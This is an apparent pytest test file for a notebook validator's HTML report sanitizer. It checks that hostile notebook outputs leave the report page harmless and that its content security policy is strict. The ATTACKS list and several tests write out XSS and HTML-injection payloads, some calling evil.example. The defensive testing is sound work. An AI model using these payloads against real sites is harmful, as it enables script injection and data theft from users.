"""`report.html`: nothing on it can run, load or leave its place, whatever a notebook puts into its outputs."""

from __future__ import annotations

import base64
import hashlib
import re
import time
from html.parser import HTMLParser
from typing import Any, Callable, Dict, List, Optional, Tuple

import pytest

from harness import Attempt
from nbv_runner.report.page.ansi import terminal_html
from nbv_runner.report.page.budget import MAX_PAGE_CHARACTERS
from nbv_runner.report.page.highlighted import highlighted
from nbv_runner.report.page.page import POLICY, html_report
from nbv_runner.report.page.prose import prose_html
from nbv_runner.report.page.sanitized import sanitized
from nbv_runner.report.page.style import STYLE

Make = Callable[..., Attempt]
Json = Dict[str, Any]

ATTACKS = [
    "<script>fetch('https://evil.example')</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</script>",
    "<script>never closed",
    "<img src=x onerror=alert(1)>",
    "<img src='https://evil.example/pixel.png'>",
    "<svg onload=alert(1)><circle/></svg>",
    "<svg><script>alert(1)</script></svg>",
    "<math><mtext><img src=x onerror=alert(1)></mtext></math>",
    "<a href='javascript:alert(1)'>click</a>",
    "<a href='https://evil.example'>click</a>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<base href='https://evil.example/'>",
    "<link rel=stylesheet href='https://evil.example/x.css'>",
    "<style>@import url(https://evil.example/x.css);body{display:none}</style>",
    "<div style='background:url(https://evil.example)' onclick=alert(1) id=cell-0 class=banner>x</div>",
    "<iframe src='https://evil.example'></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<object data='https://evil.example'><embed src=x></object>",
    "<form action='https://evil.example'><input name=a><button>go</button></form>",
    "<template><img src=x onerror=alert(1)></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<textarea></textarea><img src=x onerror=alert(1)>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<!-- never closed <p>x",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<?php echo 1 ?><p>x",
    "</div></article></main><h1>Passed</h1>",
    "</pre></section></body></html><script>alert(1)</script>",
    "<table><tr><td colspan='1\"onmouseover=\"alert(1)' rowspan=99999999 scope=javascript>x",
    "<p title=\"a>b\" onfocus='x'>text</p>",
    "<plaintext>",
    "<xmp><script>alert(1)</script></xmp>",
    "<video src=https://evil.example autoplay><source src=https://evil.example></video>",
    "<p>" * 1000,
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "\x00<scr\x00ipt>alert(1)</scr\x00ipt>",
    "<details ontoggle=alert(1) open><summary>x</summary></details>",
    "<K\u0130><script>alert(1)</script>",
]
SCALAR_TAGS = frozenset(["br", "hr", "meta", "img", "path", "rect", "polygon", "polyline"])
PICTURE = re.compile(r"data:image/(?:png|jpeg|gif|webp|svg\+xml);base64,[A-Za-z0-9+/=]+\Z")


class Inspector(HTMLParser):
    """What a page asks a browser to do."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: List[Tuple[str, Dict[str, Optional[str]]]] = []
        self.depth = 0
        self.deepest = 0
        self.unmatched: List[str] = []
        self._open: List[str] = []

    def handle_starttag(self, tag: str, attrs: List[Tuple[str, Optional[str]]]) -> None:
        self.tags.append((tag, dict(attrs)))
        if tag not in SCALAR_TAGS:
            self._open.append(tag)
            self.deepest = max(self.deepest, len(self._open))

    def handle_startendtag(self, tag: str, attrs: List[Tuple[str, Optional[str]]]) -> None:
        self.tags.append((tag, dict(attrs)))

    def handle_endtag(self, tag: str) -> None:
        if not self._open or self._open.pop() != tag:
            self.unmatched.append(tag)


def assert_harmless(page: str, own_style: bool = True) -> Inspector:
    inspector = Inspector()
    inspector.feed(page)
    inspector.close()
    assert inspector.unmatched == []
    allowed_equiv = {"Content-Security-Policy"}
    for tag, attributes in inspector.tags:
        assert tag not in ("script", "iframe", "object", "embed", "form", "input", "base", "link", "template", "frame")
        assert tag != "style" or own_style
        for name, value in attributes.items():
            assert not name.startswith("on") and name not in (
                "style",
                "srcdoc",
                "action",
                "formaction",
                "ping",
                "srcset",
            )
            if name == "http-equiv":
                assert value in allowed_equiv
            if name == "src":
                assert value is not None and PICTURE.match(value), value[:80] if value else value
            if name == "href":
                assert value is not None and (
                    value.startswith("#") or value.startswith("https://github.com/notebook-validator/")
                )
    return inspector


@pytest.mark.parametrize("attack", ATTACKS)
def test_html_of_outputs_loses_what_could_run_load_or_leave_its_place(attack: str) -> None:
    for text in (attack, "<table><tr><td>%s</td></tr></table>" % attack, attack + "<b>after</b>"):
        inspector = assert_harmless(sanitized(text), own_style=False)
        assert inspector.deepest <= 50
        for tag, attributes in inspector.tags:
            assert tag != "img" and attributes.keys() <= {"colspan", "rowspan", "scope", "class"}
            assert attributes.get("class", "heading") == "heading"


def test_tables_stay_tables() -> None:
    table = (
        "<div>\n<style scoped>\n .dataframe tbody tr th { vertical-align: top }\n</style>\n"
        '<table border="1" class="dataframe"><thead><tr style="text-align: right;"><th></th><th colspan="2">a &lt; b</th></tr>'
        "</thead><tbody><tr><th>0</th><td>1 &amp; 2</td><td>&nbsp;é</td></tr></tbody></table><p>1 rows × 2 columns</p></div>"
    )
    assert sanitized(table) == (
        '<div>\n\n<table><thead><tr><th></th><th colspan="2">a &lt; b</th></tr></thead><tbody><tr><th>0</th>'
        "<td>1 &amp; 2</td><td>\xa0é</td></tr></tbody></table><p>1 rows × 2 columns</p></div>"
    )


@pytest.mark.parametrize("part", ["<", "<a", "<!--", "<p x='", '<p "', "&", "</", "<script", "<svg>", "<p a=\"'"])
def test_no_input_takes_more_than_linear_time(part: str) -> None:
    sizes = (len(part) * 4000, len(part) * 32000)
    times = []
    for size in sizes:
        begun = time.process_time()
        sanitized(part * (size // len(part)))
        times.append(time.process_time() - begun)
    assert times[1] < 0.05 + 40 * times[0], "8 times the input may take 8 times as long, with room for noise"


def test_source_is_marked_by_token_and_by_line() -> None:
    assert highlighted("def f(x):\n    return '<b>'  # no", frozenset([2])) == (
        '<i class="k">def</i> <i class="f">f</i>(x):\n'
        '<mark class="line">    <i class="k">return</i> <i class="s">\'&lt;b&gt;\'</i>  <i class="c"># no</i></mark>'
    )
    assert highlighted('"""a\n<b>"""') == '<i class="s">"""a</i>\n<i class="s">&lt;b&gt;"""</i>'


@pytest.mark.parametrize(
    "source", ["%matplotlib inline\n!ls <x>", "'never closed", "(" * 1000, "\x00", "if x:\n  a\n b", "é = '\u2028<'"]
)
def test_source_that_is_no_python_is_shown_as_it_is(source: str) -> None:
    assert re.sub(r"</?[im][^>]*>", "", highlighted(source)) == source.replace("<", "&lt;").replace(">", "&gt;")


def test_terminal_colours_are_classes_and_everything_else_vanishes() -> None:
    assert terminal_html("\x1b[1;31m<b>\x1b[0m \x1b[2J\x1b]8;;https://evil.example\x07link\x1b]8;;\x07\x08") == (
        '<span class="bold ansi1">&lt;b&gt;</span> link'
    )
    assert terminal_html("0%\r50%\r100%\ndone") == "100%\ndone"
    assert terminal_html("\x1b[38;5;196mx\x1b[0m") == "x"


def test_markdown_is_prose_and_never_markup() -> None:
    page = prose_html(
        "# <b>T</b>\ntext with `<code>` and **bold**\n\n[x](javascript:alert(1)) ![y](https://evil.example)\n```\n<script>\n```"
    )
    assert_harmless(page, own_style=False)
    assert '<p class="heading h1">&lt;b&gt;T&lt;/b&gt;</p>' in page and "<code>&lt;code&gt;</code>" in page
    assert "href" not in page and "<img" not in page


def a_report(cells: List[Json], **more: Any) -> Json:
    counts = {
        "cells": len(cells),
        "codeCells": len(cells),
        "succeeded": len(cells),
        "failed": 0,
        "skipped": 0,
        "warnings": 0,
    }
    verdict = {
        "verdict": "Passed",
        "exitCode": 0,
        "reason": "Passed",
        "message": "ok",
        "counts": counts,
        "failingCells": [],
        "seconds": 1.0,
    }
    return {
        "version": "nbv.report.v1",
        "runnerVersion": "0",
        "startedAt": "2026-01-01T00:00:00.000Z",
        "finishedAt": "2026-01-01T00:00:01.000Z",
        "verdict": verdict,
        "environment": {},
        "findings": [],
        "cells": cells,
        **more,
    }


def a_cell(index: int, **more: Any) -> Json:
    return {
        "cell": index,
        "codeCell": index,
        "status": "Success",
        "ended": "finished",
        "seconds": 0.1,
        "output": "",
        "findings": [],
        **more,
    }


def a_page(report: Json, outputs: "List[List[Json]] | None" = None) -> str:
    cells = [{"cell_type": "code", "source": "x", "metadata": {}, "outputs": each} for each in outputs or []]
    return b"".join(html_report(report, {"cells": cells} if outputs is not None else None)).decode()


def test_hostile_outputs_of_every_kind_leave_the_page_harmless() -> None:
    bad = "".join(ATTACKS[:30])
    outputs: List[Json] = [
        {"output_type": "stream", "name": "stdout", "text": bad},
        {"output_type": "stream", "name": bad, "text": [bad, None]},
        {"output_type": "error", "ename": bad, "evalue": bad, "traceback": [bad]},
        {"output_type": "display_data", "data": {"text/html": bad}},
        {"output_type": "display_data", "data": {"text/markdown": bad}},
        {"output_type": "display_data", "data": {"application/javascript": bad}},
        {"output_type": "display_data", "data": {"image/png": '" onerror="alert(1)', "text/plain": "plain"}},
        {
            "output_type": "display_data",
            "data": {"image/png": base64.b64encode(bad.encode()).decode(), "text/plain": bad},
        },
        {"output_type": "display_data", "data": {"image/svg+xml": "<svg onload='alert(1)'/>"}},
        {"output_type": "display_data", "data": {bad: bad}},
        {"output_type": "display_data", "data": {"application/json": {bad: [bad]}}},
        {"output_type": "display_data", "data": "no bundle"},
        {"output_type": bad},
    ]
    findings = [
        {"check": "N1", "severity": "failure", "message": bad, "evidence": {"name": bad, "line": 1, "call": bad}}
    ]
    diffs = [{"cellIndex": 0, "diffType": bad, "severity": bad, "diff": "+%s\n-%s\n@@ %s" % (bad, bad, bad)}]
    diffs += [{"cellIndex": 7, "diffType": "missing_cell", "severity": "major", "expected": bad, "actual": bad}]
    cell = a_cell(
        0, status="Failure", findings=findings, tags=[bad], error={"name": bad, "message": bad, "traceback": bad}
    )
    environment = {"python": bad, "image": bad, "packages": {bad: bad}, "kernel": {"displayName": bad}}
    environment["changedByNotebook"] = [{"name": bad, "before": bad, "after": None}]
    report = a_report(
        [cell],
        findings=[{"check": bad, "severity": bad, "message": bad}],
        environment=environment,
        unchecked=[bad],
        notebook={"path": bad},
        commit=bad,
        level=bad,
        policy={bad: bad},
        attempt={"job": bad, "namespace": bad, "runId": bad, "number": 1},
        comparison={"result": "failed", "message": bad, "diffs": diffs},
    )
    page = a_page(report, [outputs])
    inspector = assert_harmless(page)
    assert [tag for tag, _ in inspector.tags].count("style") == 1
    assert "data:image/svg+xml;base64," in page, "an image runs nothing"
    identifiers = [attributes["id"] for _, attributes in inspector.tags if "id" in attributes]
    assert len(identifiers) == len(set(identifiers))


def test_the_policy_allows_nothing_but_the_pages_own_style_and_pictures_in_it() -> None:
    digest = base64.b64encode(hashlib.sha256(STYLE.encode()).digest()).decode()
    assert (
        "default-src 'none'; img-src data:; style-src 'sha256-%s'; base-uri 'none'; form-action 'none'" % digest
    ) == POLICY
    page = a_page(a_report([a_cell(0)]), [[]])
    assert page.index("Content-Security-Policy") < page.index("<style>")
    assert "<style>%s</style>" % STYLE in page and 'style="' not in page


def test_a_page_of_many_large_outputs_stays_bounded_and_says_what_is_missing() -> None:
    image = "A" * 3_000_000
    outputs = [[{"output_type": "display_data", "data": {"image/png": image}}] for _ in range(12)]
    cells = [a_cell(index) for index in range(12)]
    cells[11]["status"] = "Failure"
    page = a_page(a_report(cells), outputs)
    assert len(page) < MAX_PAGE_CHARACTERS + 1_000_000
    assert "parts were left out" in page
    assert page.count("data:image/png") == 6 and "Picture from cell 11" in page, "a failing cell has a reserve"


def test_a_thousand_cells_and_findings_make_a_page() -> None:
    findings = [{"check": "Q1", "severity": "failure", "message": "`x` is NaN", "evidence": {"name": "x"}}]
    cells = [a_cell(index, findings=findings, memoryBytes=index * 1000, seconds=index / 1000) for index in range(1000)]
    page = a_page(a_report(cells), [[] for _ in cells])
    assert_harmless(page)
    assert page.count("<summary>Why, and what to do") == 1, "the same lesson is given once"
    assert page.count("Explained above") == 999
    assert "(the slowest 60 of 1000)" in page


def test_differences_stand_beside_their_cells() -> None:
    diffs = [
        {"cellIndex": 1, "cellType": "code", "diffType": "output_mismatch", "severity": "major", "diff": "-1.0\n+2.0"},
        {
            "cellIndex": 9,
            "cellType": "code",
            "diffType": "missing_cell",
            "severity": "critical",
            "expected": "golden()",
        },
    ]
    comparison = {"result": "failed", "strategy": "normalized", "totalCells": 3, "matchedCells": 1, "diffs": diffs}
    page = a_page(a_report([a_cell(0), a_cell(1)], comparison=comparison), [[], []])
    assert page.index('id="cell-1"') < page.index("<del>-1.0</del>\n<ins>+2.0</ins>") < page.index('id="environment"')
    assert page.index('id="golden"') < page.index("golden()") < page.index('id="cells"')
    assert "1 of 3 cells match" in page


def test_the_parameters_cell_has_no_number_and_the_others_keep_theirs(attempt: Make) -> None:
    result = attempt("limit = 3\nlimit", parameters={"limit": 5}).run()
    page = (result.artifacts / "report.html").read_text()
    assert "Injected parameters" in page
    number = '<i class="n">%d</i>'
    assert page.index(number % 5) < page.index('id="cell-0-title"') < page.index(number % 3)
    assert page.count("<article") == 2


def test_a_run_that_never_started_has_a_page_with_its_reason(attempt: Make) -> None:
    result = attempt("1", notebook={"kernel": "none-such"}).run()
    page = (result.artifacts / "report.html").read_text()
    assert_harmless(page)
    assert "Not judged" in page and "What this ending means" in page


def test_without_the_catalogue_findings_are_still_told(monkeypatch: pytest.MonkeyPatch) -> None:
    def gone(*_: Any) -> None:
        raise FileNotFoundError("feedback.json")

    monkeypatch.setattr("nbv_runner.report.page.findings.lesson_of_check", gone)
    monkeypatch.setattr("nbv_runner.report.page.findings.lesson_of_ending", gone)
    cell = a_cell(0, findings=[{"check": "N1", "severity": "failure", "message": "x is None"}])
    assert "x is None" in a_page(a_report([cell]), [[]])
